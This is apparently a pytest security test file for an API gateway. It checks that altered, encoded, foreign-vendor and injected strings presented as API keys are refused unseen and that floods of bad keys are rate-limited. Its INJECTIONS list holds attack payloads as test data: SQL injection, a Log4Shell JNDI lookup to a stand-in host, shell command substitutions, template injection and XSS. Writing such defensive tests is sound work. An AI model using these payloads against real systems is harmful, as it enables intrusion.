"""Section B of the attack cases: texts that are presented as keys."""

import base64
import json
import secrets
import string

import pytest
from tests.security.conftest import CHAT, Exposed
from tests.security.test_authorization_header import BAD_TOKEN, logged, resident_bytes

from anyrouter.core.keys import ALPHABET, DOCUMENTATION_KEY, checksum, generate
from support.raw_client import Reply, raw_request
from support.served import run_command

TELLING = 10  # a text this long is not in a reply by chance


def present(exposed: Exposed, text: bytes | str, header: bytes = b"Authorization: Bearer ") -> tuple[Reply, Reply]:
    """What inference and reading say to it."""
    line = header + (text.encode() if isinstance(text, str) else text)
    chat = exposed.ask(raw_request(b"POST", b"/api/v1/chat/completions", line, body=CHAT))
    return chat, exposed.ask(raw_request(b"GET", b"/api/v1/models", line))


def is_refused_unseen(exposed: Exposed, text: bytes | str) -> bool:
    """401-T from both planes while the database could not have been asked, and the text comes back nowhere."""
    raw = text.encode() if isinstance(text, str) else text
    with exposed.without_keys():
        for header in (b"Authorization: Bearer ", b"x-api-key: "):
            for reply in present(exposed, raw, header):
                assert (reply.status, reply.headers["www-authenticate"]) == (401, BAD_TOKEN), reply
                if len(raw) >= TELLING:
                    assert raw not in reply.body
                    assert raw.decode("latin-1") not in "".join(reply.headers.values())
    assert exposed.upstream.received == []
    return len(raw) < TELLING or raw.decode("utf-8", "replace") not in logged(exposed.gateway)


def with_checksum(head: str) -> str:
    return head + checksum(head)


def test_a_wrong_length_is_refused_unseen(exposed: Exposed) -> None:
    key = exposed.live_key
    for text in (key[:-1], key[1:], key + "0", key[:-6], key[:20], key * 2, "ar-live-", "ar-", "a", key + "0" * 4000):
        assert is_refused_unseen(exposed, text)
    reply, _ = present(exposed, key[:37])
    assert "37 of 53 characters" in reply.error["message"]


def test_one_wrong_character_is_refused_unseen_wherever_it_is(exposed: Exposed) -> None:
    key = exposed.live_key
    with exposed.without_keys(), exposed.connect() as client:
        for at in range(len(key)):
            wrong = key[:at] + ("A" if key[at] != "A" else "B") + key[at + 1 :]
            assert client.send(raw_request(b"POST", b"/v1/messages", key=wrong, body=b"{}")).read().status == 401
            assert client.send(raw_request(b"GET", b"/v1/models", key=wrong)).read(b"GET").status == 401


def test_swapped_neighbours_are_refused_unseen(exposed: Exposed) -> None:
    key = exposed.live_key
    swapped = [key[:at] + key[at + 1] + key[at] + key[at + 2 :] for at in range(8, len(key) - 1) if key[at] != key[at + 1]]
    for text in swapped[:: max(1, len(swapped) // 6)]:
        assert is_refused_unseen(exposed, text)


def test_another_case_is_refused_unseen(exposed: Exposed) -> None:
    for text in (exposed.live_key.lower(), exposed.live_key.upper(), exposed.live_key.swapcase(), "AR-" + exposed.live_key[3:]):
        assert is_refused_unseen(exposed, text)


def test_an_exchanged_environment_is_refused_by_the_checksum(exposed: Exposed) -> None:
    live, test = exposed.live_key, exposed.test_key
    for text in (live.replace("ar-live-", "ar-test-"), test.replace("ar-test-", "ar-live-"), live.replace("live", "prod")):
        assert is_refused_unseen(exposed, text)


def test_an_exchanged_environment_with_a_fresh_checksum_is_an_unknown_key(exposed: Exposed) -> None:
    test, live = exposed.test_key, exposed.live_key
    for text in (with_checksum(test[:-6].replace("test", "live")), with_checksum(live[:-6].replace("live", "test"))):
        for reply in present(exposed, text):
            assert (reply.status, reply.code) == (401, "invalid_api_key")
    assert exposed.upstream.received == []


def test_the_documentation_s_key_is_told_to_be_that(exposed: Exposed) -> None:
    assert is_refused_unseen(exposed, DOCUMENTATION_KEY)
    for reply in present(exposed, DOCUMENTATION_KEY):
        assert reply.code == "documentation_key"
        assert "documentation" in reply.error["message"]


FOREIGN = {
    "sk-MARKER" + "a" * 40: "an OpenAI key",
    "sk-proj-MARKER_" + "b" * 100: "an OpenAI key",
    "sk-ant-api03-MARKER" + "c" * 80: "an Anthropic key",
    "sk-or-v1-" + "d" * 64: "an OpenRouter key",
    "ghp_MARKER" + "e" * 30: "a GitHub token",
    "github_pat_MARKER" + "f" * 60: "a GitHub token",
    "AKIAMARKER0000000000": "an AWS access key id",
    "AIzaMARKER" + "g" * 29: "a Google API key",
    "gsk_MARKER" + "h" * 46: "a Groq key",
    "hf_MARKER" + "i" * 28: "a Hugging Face token",
    "xai-MARKER" + "j" * 70: "an xAI key",
}


@pytest.mark.parametrize(("text", "kind"), FOREIGN.items(), ids=FOREIGN.values())
def test_another_vendor_s_key_is_recognised_and_goes_nowhere(exposed: Exposed, text: str, kind: str) -> None:
    assert is_refused_unseen(exposed, text)
    for reply in present(exposed, text):
        assert f"this looks like {kind};" in reply.error["message"]


@pytest.mark.parametrize(
    "tail",
    [b"%0a", b"%00", b"\xc2\xa0", b"\xa0", b"\xe2\x80\x8b", b"\xef\xbb\xbf", b"\x85", b"\xcc\x81", b"\t", b".", b"=", b'"', b"\\n", b"%20"],
)
def test_a_tail_or_a_head_that_is_hardly_seen_is_refused(exposed: Exposed, tail: bytes) -> None:
    key = exposed.live_key.encode()
    for text in (key + tail, tail + key, key[:20] + tail + key[20:]):
        if text.strip(b" \t") != key:
            assert is_refused_unseen(exposed, text)


@pytest.mark.parametrize("tail", [b"\n", b"\r", b"\0", b"\x0b", b"\x0c", b"\x7f", b"\x1b"])
def test_a_line_s_end_or_a_control_character_in_a_key_is_400_or_401(exposed: Exposed, tail: bytes) -> None:
    for text in (exposed.live_key.encode() + tail, tail + exposed.live_key.encode()):
        for reply in present(exposed, text):
            assert reply.status in {400, 401}
    assert exposed.upstream.received == []


def test_lookalike_letters_are_refused_unseen(exposed: Exposed) -> None:
    for text in ("\u0430r-live-" + exposed.live_key[8:], exposed.live_key.replace("-", "\u2010"), exposed.live_key.replace("l", "\u217c")):
        assert is_refused_unseen(exposed, text)


INJECTIONS = [
    "' OR 1=1--",
    "%27",
    "{$ne:null}",
    "../../",
    "${jndi:ldap://evil.example/MARKER}",
    "{{7*7}}",
    "{0.__class__}",
    "%s%n%x",
    "$(id)",
    "`id`",
    "<script>alert(1)</script>",
    "\x1b[31mMARKER",
    "ar-live-'||(SELECT key FROM api_keys)||'",
    "ar-live-" + "'" * 45,
    "ar-' OR '1'='1-" + "a" * 45,
    "null",
    "undefined",
    "true",
    "*",
    "ar-*-*",
    "[object Object]",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injection_is_a_text_that_is_no_key(exposed: Exposed, text: str) -> None:
    if text.isprintable():
        assert is_refused_unseen(exposed, text)
    else:
        assert {reply.status for reply in present(exposed, text)} <= {400, 401}
    assert "49" not in present(exposed, "{{7*7}}")[0].error["message"]


def test_a_well_formed_key_that_was_never_issued_is_401_and_read_once(exposed: Exposed) -> None:
    unknown = generate("live")
    for reply in present(exposed, unknown):
        assert (reply.status, reply.code, reply.headers["www-authenticate"]) == (401, "invalid_api_key", BAD_TOKEN)
        assert unknown not in reply.body.decode()
    with exposed.without_keys():  # what is answered now is remembered; a database that is asked gives 503
        assert {reply.status for reply in present(exposed, unknown)} == {401}
        assert {reply.status for reply in present(exposed, generate("live"))} == {503}


def test_a_database_that_cannot_say_is_503_and_never_401_and_known_keys_work_on(exposed: Exposed) -> None:
    assert exposed.chat().status == 200
    with exposed.without_keys():
        for reply in present(exposed, generate("test")):
            assert (reply.status, reply.code) == (503, "storage_unavailable")
            assert int(reply.headers["retry-after"]) >= 1
            assert "www-authenticate" not in reply.headers
        assert exposed.chat().status == 200
    assert {reply.status for reply in present(exposed, generate("test"))} == {401}


def test_a_neighbour_of_a_key_that_is_in_use_is_unknown(exposed: Exposed) -> None:
    key = exposed.live_key
    assert exposed.chat().status == 200
    for letter in secrets.choice(ALPHABET), "0", "z":
        neighbour = with_checksum(key[:-7] + letter)
        if neighbour != key:
            for reply in present(exposed, neighbour):
                assert (reply.status, reply.code) == (401, "invalid_api_key")
    assert exposed.chat().status == 200


def test_what_is_shown_of_a_key_is_no_key(exposed: Exposed) -> None:
    rows = run_command(exposed.gateway.data_dir, "keys", "list")["data"]
    assert rows
    for row in rows:
        for text in (row["id"], row["label"], row["hash"], row["name"]):
            assert {reply.status for reply in present(exposed, text)} == {401}
    assert "public id" in present(exposed, rows[0]["id"])[0].error["message"]


def test_other_encodings_of_a_key_are_refused_unseen(exposed: Exposed) -> None:
    key = exposed.live_key
    for text in (
        base64.b64encode(key.encode()),
        base64.b64encode(b":" + key.encode()),
        key.encode().hex().encode(),
        "".join(f"%{ord(letter):02x}" for letter in key).encode(),
        json.dumps({"key": key}).encode(),
        f'"{key}"'.encode(),
        f"Bearer {key}".encode(),
        key.encode("utf-16-be").replace(b"\0", b" "),
        b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJNQVJLRVIifQ.",
    ):
        assert is_refused_unseen(exposed, text)


def test_a_flood_of_unknown_keys_is_limited_by_address_and_harms_nobody_else(impatient: Exposed) -> None:
    attacker, statuses, before = b"X-Forwarded-For: 192.0.2.66", [], resident_bytes(impatient.gateway.pid)
    with impatient.connect() as client:
        for number in range(300):
            client.send(raw_request(b"POST", b"/v1/chat/completions", attacker, key=generate("live"), body=CHAT))
            reply = client.read()
            statuses.append(reply.status)
            if number == 200:
                assert impatient.chat(b"X-Forwarded-For: 192.0.2.7").status == 200
                assert impatient.chat(attacker).status == 200, "a good key is good from anywhere"
    assert statuses == [401] * 60 + [429] * 240
    assert reply.code == "rate_limited"
    assert 1 <= int(reply.headers["retry-after"]) <= 60
    assert "www-authenticate" not in reply.headers
    other = raw_request(b"GET", b"/v1/models", b"X-Forwarded-For: 192.0.2.8", key=generate("live"))
    assert impatient.ask(other).status == 401
    assert resident_bytes(impatient.gateway.pid) - before < 8 << 20


def test_a_flood_of_malformed_keys_is_no_failed_authentication_of_anybody(impatient: Exposed) -> None:
    with impatient.connect() as client:
        for number in range(100):
            text = "".join(secrets.choice(string.ascii_letters) for _ in range(number))
            assert client.send(raw_request(b"GET", b"/v1/key", key=f"ar-{text}")).read(b"GET").status == 401
        assert client.send(raw_request(b"GET", b"/v1/key", key=generate("live"))).read(b"GET").status == 401
